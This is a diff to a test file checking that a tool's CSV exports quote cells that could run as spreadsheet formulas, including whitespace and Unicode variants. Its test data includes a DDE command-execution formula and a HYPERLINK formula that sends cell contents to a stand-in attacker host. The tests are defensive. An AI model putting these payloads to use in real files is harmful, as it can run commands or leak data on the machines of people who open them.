@@ -151,7 +151,9 @@ def test_bad_requests_are_user_errors(sqlite_url: str, tmp_path: Path, kind, fmt
 
 
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1",
-            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
+            # a spreadsheet skips blanks and control characters before the formula (issue 22)
+            "  =1+1", " \t@SUM(A1:A9)", "\n-2+3", "\u200b=1+1", "\u00a0+1", "\u3000\uff1d1+1"]
 
 
 def test_csv_cells_that_would_run_as_formulas_are_quoted(sqlite_url: str, tmp_path: Path) -> None:
@@ -180,3 +182,44 @@ def test_csv_cells_that_would_run_as_formulas_are_quoted(sqlite_url: str, tmp_pa
     for fmt in ("jsonl", "parquet"):
         text = _read(tmp_path / f"r.{fmt}", fmt).set_index("response_id")["text"]
         assert [text[f"evil-{i}"] for i in range(len(FORMULAS))] == FORMULAS
+
+
+def test_leading_blanks_alone_are_not_quoted() -> None:
+    from db.export import neutralise
+
+    assert [neutralise(v) for v in ["  plain", " \t1 mm", "\u200bx", "a=1", "", "  ", -1.5, 3]] == [
+        "  plain", " \t1 mm", "\u200bx", "a=1", "", "  ", -1.5, 3]
+
+
+def test_a_model_named_like_a_formula_is_quoted_in_every_csv(sqlite_url: str,
+                                                              tmp_path: Path) -> None:
+    """`"  =1+1"` as a model name (a study from before names were checked): quoted in
+    `nmb export` and in the results CSV, which share `neutralise`."""
+    import csv
+
+    from calibration.results_tables import Table, csv_text
+
+    _study(sqlite_url, tmp_path)
+    with Session(engine_for(sqlite_url)) as s:
+        s.add(Response(response_id="evil-model", task_id="t1", source="model", model="  =1+1",
+                       sample=7, text="stroke", blind_code="R-EVIL"))
+        s.commit()
+        export(s, "responses", fmt="csv", out=tmp_path / "r.csv")
+    with open(tmp_path / "r.csv", newline="") as f:
+        models = {row["response_id"]: row["model"] for row in csv.DictReader(f)}
+    assert models["evil-model"] == "'  =1+1" and models["model-a-t1-0"] == "model-a"
+    table = Table("overall", "Overall", ["model", "n"], [["  =1+1", 3], ["\u200b-2+3", -1]])
+    assert list(csv.reader(csv_text(table).splitlines())) == [
+        ["model", "n"], ["'  =1+1", "3"], ["'\u200b-2+3", "-1"]]
+
+
+def test_every_csv_writer_uses_the_one_neutraliser() -> None:
+    """Each project module that writes CSV (`csv.writer`, `DataFrame.to_csv`) goes through
+    `db.export.neutralise`, so one rule decides which cells are quoted."""
+    root = Path(__file__).resolve().parents[2]
+    writers = [p for p in root.rglob("*.py")
+               if not {"tests", "benchmarks", ".venv"} & set(p.relative_to(root).parts)
+               and (".to_csv(" in (text := p.read_text()) or "csv.writer(" in text)]
+    assert {p.relative_to(root).as_posix() for p in writers} == {
+        "db/export.py", "calibration/results_tables.py"}
+    assert all("neutralise(" in p.read_text() for p in writers)
